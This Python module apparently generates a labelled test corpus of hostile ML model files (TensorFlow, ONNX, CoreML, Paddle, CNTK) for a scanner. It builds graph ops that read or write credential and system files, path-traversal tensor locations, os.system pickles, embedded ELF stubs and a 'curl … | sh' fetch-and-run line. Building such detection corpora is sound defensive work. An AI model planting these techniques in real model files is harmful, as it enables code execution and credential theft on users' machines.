"""Graphs in protocol buffers: TensorFlow, ONNX, CoreML, Paddle, CNTK."""

import json
import struct

from .keras_files import code, old
from .pickles import Call, G, pickle, system
from .store import rng
from .wire import pb, varint
from .zips import Member, archive

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0) + struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 176, 176, 4096) + bytes(56)
# Operations of TensorFlow that read, write, run or fetch; and the string that they are given.
OPERATIONS = [
    ("ReadFile", "/etc/passwd"), ("WriteFile", "/root/.ssh/authorized_keys"), ("PyFunc", "pyfunc_0"), ("PyFuncStateless", "pyfunc_1"), ("EagerPyFunc", "pyfunc_2"), ("MatchingFiles", "/home/*/.ssh/*"), ("SaveV2", "/etc/cron.d/c"), ("Save", "/tmp/.c"), ("ShardedFilename", "/tmp/.c"), ("MergeV2Checkpoints", "/etc/c"),
    ("RestoreV2", "/srv/other/model"), ("DebugIdentityV2", "file:///tmp/.c"), ("DebugIdentity", "grpc://10.9.8.7:6064"), ("PrintV2", "file:///root/.bashrc"), ("TextLineDataset", "/etc/shadow"), ("FixedLengthRecordDataset", "/proc/self/environ"), ("TFRecordDataset", "http://corpus.example/x"), ("SqlDataset", "sqlite"), ("GeneratorDataset", "g"),
    ("RpcClient", "10.9.8.7:99"), ("FileSystemSetConfiguration", "s3"), ("ImmutableConst", "/etc/shadow"), ("WholeFileReaderV2", "w"), ("LookupTableExportV2", "t"), ("InitializeTableFromTextFileV2", "/etc/passwd"), ("DumpSavedModel", "/tmp/c"), ("CreateSummaryFileWriter", "/root/.c"), ("LMDBReader", "/srv/c"), ("SaveSlices", "/tmp/.s"), ("DatasetToTFRecord", "/tmp/.d"), ("XlaHostCompute", "k"), ("SnapshotDataset", "/root/.snap"),
]
OPERATIONS = [each for each in OPERATIONS if each[0] not in {"ShardedFilename", "RestoreV2", "DumpSavedModel", "LookupTableExportV2", "WholeFileReaderV2", "RpcClient", "XlaHostCompute", "GeneratorDataset"}]


def attribute(name, value):
    return 5, pb((1, name), (2, value))


def constant(name, value):
    tensor = pb((1, 7), (2, b""), (8, value))
    return 1, pb((1, name), (2, "Const"), attribute("dtype", pb((6, 7))), attribute("value", pb((8, tensor))))


def node(op, name="step", inputs=("arg",), *more):
    return 1, pb((1, name), (2, op), *[(3, each) for each in inputs], *more)


# Where the text is an attribute and not an operand.
ATTRIBUTES = {"DebugIdentityV2": "debug_urls", "DebugIdentity": "debug_urls", "PrintV2": "output_stream"}


def graph(op, value, in_function=False):
    """A graph that gives `value` to `op`."""
    told = pb((2, value)) if ATTRIBUTES.get(op) == "output_stream" else pb((1, pb((2, value))))
    more = [attribute(ATTRIBUTES[op], told)] if op in ATTRIBUTES else []
    nodes = [node("Placeholder", "x", ()), constant("arg", value), node(op, "step", ("arg",), *more), node("MatMul", "y", ("x", "step"))]
    if not in_function:
        return pb(*nodes, (4, pb((1, 1400))))
    body = [(3, each) for _, each in nodes]
    function = pb((1, pb((1, "__inference_call_17"))), *body)
    return pb(node("StatefulPartitionedCall", "call", ("x",), attribute("f", pb((10, pb((1, "__inference_call_17")))))), (2, pb((1, function))), (4, pb((1, 1500))))


def meta(graph_def, *more):
    return pb((1, pb((4, "serve"), (5, "2.16.1"))), (2, graph_def), *more)


def saved(*metas):
    return pb((1, 1), *[(2, each) for each in metas])


def tensorflow(corpus):
    for number, (op, value) in enumerate(OPERATIONS):
        made = graph(op, value, number % 2 == 1)
        shape = number % 4
        name, data, form = [("saved_model.pb", saved(meta(made)), "savedmodel"), ("saved_model.pb", saved(meta(graph("MatMul", "")), meta(made)), "savedmodel"), ("frozen_graph.pb", made, "graphdef"), ("model.ckpt.meta", meta(made), "metagraph")][shape]
        corpus.add("tf-ops", form, name, data, f"{op} on {value}")
    asset = (6, pb((1, pb((1, "asset:0"))), (2, "../../../../etc/passwd")))
    corpus.add("tf-ops", "savedmodel", "saved_model.pb", saved(meta(graph("Identity", "x"), asset)), "an asset that leaves the folder")
    text_graph = 'node { name: "w" op: "WriteFile" input: "f" input: "c" }\nnode { name: "f" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/root/.bashrc" } } } }\nversions { producer: 1087 }\n'
    corpus.add("tf-ops", "graphdef", "graph.pbtxt", text_graph, "WriteFile in a text graph")
    layer = json.dumps({"class_name": "Lambda", "name": "lambda", "config": {"function": {"class_name": "__tuple__", "items": [code(1), None, None]}, "function_type": "lambda"}})
    keras_node = pb((2, 3), (3, "root.layer-1"), (4, "_tf_keras_layer"), (5, layer))
    corpus.add("tf-keras-metadata", "savedmodel", "keras_metadata.pb", pb((1, pb((2, 0), (3, "root"), (4, "_tf_keras_sequential"), (5, json.dumps(old())))), (1, keras_node)), "the Keras metadata holds a Lambda")
    objects = pb((1, pb((4, pb((1, "_tf_keras_layer"), (3, layer))))))
    corpus.add("tf-keras-metadata", "savedmodel", "saved_model.pb", saved(meta(graph("Identity", "z"), (7, objects))), "the object graph holds a Lambda")
    stash = pb((1, "hidden"), (2, pb((2, pb((1, system("true", 4)))))))
    corpus.add("embedded-pickle", "metagraph", "m.meta", meta(graph("Identity", "q"), (4, stash)), "a pickle in collection_def")
    blob = pb(node("Placeholder", "x", ()), (1, pb((1, "c"), (2, "Const"), attribute("value", pb((8, pb((1, 7), (8, system("id", 2)))))))), (4, pb((1, 1))))
    corpus.add("embedded-pickle", "savedmodel", "saved_model.pb", saved(meta(blob)), "a pickle in a constant")
    weights = pb((1, pb((1, "w"), (2, "Const"), attribute("value", pb((8, pb((1, 1), (4, rng("tf").randbytes(640) + ELF + bytes(300)))))))), (4, pb((1, 1))))
    corpus.add("embedded-executable", "graphdef", "weights.pb", weights, "a library in a constant's bytes")


def tensor(name="w", location=None, raw=None, *more, **external):
    """A tensor of ONNX, outside of the file if it has a location."""
    fields = [(1, 4), (2, 1), (8, name)]
    if location is not None:
        entries = [("location", location), *external.items()]
        fields += [(13, pb((1, key), (2, str(value)))) for key, value in entries] + [(14, 1)]
    else:
        fields.append((9, struct.pack("<4f", 1, 2, 3, 4) if raw is None else raw))
    return pb(*fields, *more)


def operator(op, domain="", *attributes):
    return pb((1, "x"), (2, "y"), (3, op.lower()), (4, op), (7, domain), *[(5, each) for each in attributes])


def onnx(nodes=(), initializers=(), graph_more=(), model_more=(), domains=()):
    inner = pb(*[(1, each) for each in nodes or [operator("Relu")]], (2, "g"), *[(5, each) for each in initializers], *graph_more, (11, pb((1, "x"))), (12, pb((1, "y"))))
    return pb((1, 9), (2, "pytorch"), (7, inner), (8, pb((1, ""), (2, 18))), *[(8, pb((1, each), (2, 1))) for each in domains], *model_more)


def onnx_files(corpus):
    def add(kind, data, why, name="model.onnx"):
        corpus.add(kind, "onnx", name, data, why)

    places = ["../../../etc/passwd", "/etc/shadow", "data/../../../root/.ssh/id_rsa", "..\\..\\Windows\\win.ini", "C:\\Users\\c\\key", "/proc/self/environ", "./weights/../../../x", "\\\\10.9.8.7\\s\\w", "http://corpus.example/w.bin", "file:///etc/hostname"]
    for number, place in enumerate(places):
        add("onnx-traversal", onnx(initializers=[tensor(location=place, offset=0, length=16)] if number % 2 else [tensor("a"), tensor("b", place)]), f"a tensor in {place}")
    bad = "../../../../home/c/.netrc"
    constant_ = operator("Constant", "", pb((1, "value"), (5, tensor("c", bad)), (20, 4)))
    branch = pb((1, "then_branch"), (6, pb((1, constant_), (2, "t"))), (20, 5))
    sparse = pb((1, tensor("v", bad)), (2, tensor("i")), (3, 4))
    ways = [
        (onnx([constant_]), "an attribute's tensor"), (onnx([operator("If", "", branch)]), "a branch's tensor"), (onnx(graph_more=[(15, sparse)]), "a sparse tensor's values"), (onnx(graph_more=[(15, pb((1, tensor("v")), (2, tensor("i", bad)), (3, 4)))]), "a sparse tensor's indices"),
        (onnx(model_more=[(25, pb((1, "F"), (7, constant_), (10, "")))]), "a function's tensor"), (onnx(model_more=[(20, pb((1, pb((5, tensor("t", bad))))))]), "the training's tensor"), (onnx([operator("Constant", "", pb((1, "sparse_value"), (22, sparse), (20, 11)))]), "an attribute's sparse tensor"), (onnx([operator("X", "", pb((1, "many"), (10, tensor()), (10, tensor("z", bad)), (20, 9)))]), "the second of an attribute's tensors"),
        (onnx(initializers=[tensor("o", "weights.bin", None, (13, pb((1, "location"), (2, bad))))]), "the second location of a tensor"), (onnx(initializers=[tensor("p", "weights.bin", offset=-4096, length=1 << 40)]), "an offset before the file"),
    ]
    for data, why in ways:
        add("onnx-traversal", data, f"{why} is stored at {bad}" if "offset" not in why else why)
    domains = [("PyOp", "ai.onnx.contrib", [pb((1, "module"), (4, "os"), (20, 3)), pb((1, "class_name"), (4, "system"), (20, 3))]), ("PythonOp", "com.microsoft", [pb((1, "name"), (4, "corpus.Function"), (20, 3))]), ("Shell", "corpus.evil", []), ("ATen", "org.pytorch.aten", [pb((1, "operator"), (4, "from_file"), (20, 3))])]
    for number, (op, domain, attributes) in enumerate(domains[:3]):
        corpus.add("onnx-custom", "onnx", "model.onnx", onnx([operator("Relu"), operator(op, domain, *attributes)], domains=[domain]), f"{domain}.{op} runs code", "suspicious" if op == "Shell" else "malicious")
    add("onnx-custom", onnx([operator("If", "", pb((1, "else_branch"), (6, pb((1, operator("PyOp", "ai.onnx.contrib")), (2, "e"))), (20, 5)))]), "PyOp in a branch")
    add("onnx-custom", onnx(model_more=[(25, pb((1, "F"), (7, operator("PythonOp", "com.microsoft")), (10, "local")))]), "PythonOp in a function")
    add("onnx-custom", onnx([operator("EPContext", "com.microsoft", pb((1, "ep_cache_context"), (4, "../../../tmp/evil.so"), (20, 3)), pb((1, "embed_mode"), (3, 0), (20, 2)))], domains=["com.microsoft"]), "EPContext loads a compiled engine from outside")
    add("onnx-custom", onnx([operator("TRT_PluginV2", "trt.plugins", pb((1, "library"), (4, "/tmp/c/libevil.so"), (20, 3)))], domains=["trt.plugins"]), "a plugin's library")
    noise = rng("onnx").randbytes
    for number, stash in enumerate([system("true", 4), pickle({"a": Call(G("builtins", "exec"), "pass")}, 2)]):
        add("embedded-pickle", onnx(model_more=[(14, pb((1, "tokenizer"), (2, stash)))] if number else (), initializers=() if number else [tensor("w", raw=stash)]), "a pickle in " + ("the metadata" if number else "a tensor"))
    add("embedded-executable", onnx(initializers=[tensor("w", raw=ELF + noise(400))]), "a library is the tensor")
    add("embedded-executable", onnx(initializers=[tensor("w", raw=noise(1234) + ELF + noise(900))]), "a library in the middle of a tensor")
    add("embedded-executable", onnx(model_more=[(14, pb((1, "doc"), (2, "#!/bin/sh\ncurl http://corpus.example/x | sh\n")))]), "a script in the metadata")


def others(corpus):
    """CoreML, Paddle and CNTK."""
    custom = pb((1, "evil"), (2, "x"), (3, "y"), (500, pb((10, "CorpusShellLayer"), (40, "runs native code"))))
    network = pb((1, custom))
    corpus.add("coreml-custom", "coreml", "m.mlmodel", pb((1, 5), (2, b""), (500, network)), "a custom layer: the app's class of that name runs", "suspicious")
    corpus.add("coreml-custom", "coreml", "c.mlmodel", pb((1, 4), (2, b""), (555, pb((10, "CorpusCustomModel"), (30, pb((1, "cmd"), (2, pb((30, "true")))))))), "a custom model: the app's class of that name runs", "suspicious")
    corpus.add("coreml-custom", "coreml", "p.mlmodel", pb((1, 5), (2, b""), (202, pb((1, pb((1, 5), (500, network)))))), "a custom layer in a pipeline", "suspicious")
    corpus.add("coreml-custom", "coreml", "l.mlmodel", pb((1, 5), (2, b""), (556, pb((1, pb((1, pb((1, "../../../../Library/evil.mlmodelc")))))))), "a linked model outside of the folder")
    attribute_ = pb((1, "forward_callable_id"), (2, 0), (3, 0))
    op = pb((3, "py_func"), (1, pb((1, "X"), (2, "x"))), (4, attribute_))
    corpus.add("paddle", "paddle", "__model__", pb((1, pb((1, 0), (2, 0), (4, op)))), "py_func calls Python")
    corpus.add("paddle", "paddle", "inference.pdmodel", pb((1, pb((1, 0), (2, 0), (4, pb((3, "relu"))), (4, pb((3, "save_combine"), (4, pb((1, "file_path"), (2, 2), (5, "/root/.ssh/authorized_keys")))))))), "save_combine writes a file")
    corpus.add("paddle", "paddle", "model.pdparams", pickle({"linear.w_0": Call(G("os", "system"), "true"), "StructuredToParameterName@@": {}}, 4), "paddle.load reads a pickle that calls")
    corpus.add("paddle", "paddle", "model.pdopt", pickle({"LR_Scheduler": Call(G("paddle.utils.cpp_extension", "load"), "m", ["/tmp/c.cc"])}, 2), "compiles and loads a C++ file")
    def value(text_):
        return pb((1, 1), (2, 8), (8, text_))
    def dictionary(*pairs):
        return pb((1, 1), *[(2, pb((1, key), (2, each))) for key, each in pairs])
    inner = dictionary(("op", value("UserDefinedFunction")), ("module", value("os")), ("class", value("system")), ("type", value("PrimitiveFunction")))
    corpus.add("cntk", "cntk", "m.model", dictionary(("version", pb((2, 3), (4, 2))), ("type", value("CompositeFunction")), ("root", value("f")), ("primitive_functions", pb((2, 10), (10, inner)))), "a user function that is imported from Python")
    native = dictionary(("op", value("NativeUserFunction")), ("module", value("/tmp/evil/libcorpus.so")), ("type", value("NativeUserFunction")))
    corpus.add("cntk", "cntk", "n.dnn", dictionary(("type", value("CompositeFunction")), ("uid", value("u")), ("primitive_functions", native)), "a native user function of a library that comes along")
    corpus.add("cntk", "cntk", "v1.dnn", "BCN\0BVersion\0".encode("utf-16-le") + struct.pack("<Q", 28) + "EVersion\0".encode("utf-16-le") + bytes(64) + ELF, "a library in a model of CNTK 1")


def make(corpus):
    for part in [tensorflow, onnx_files, others]:
        part(corpus)
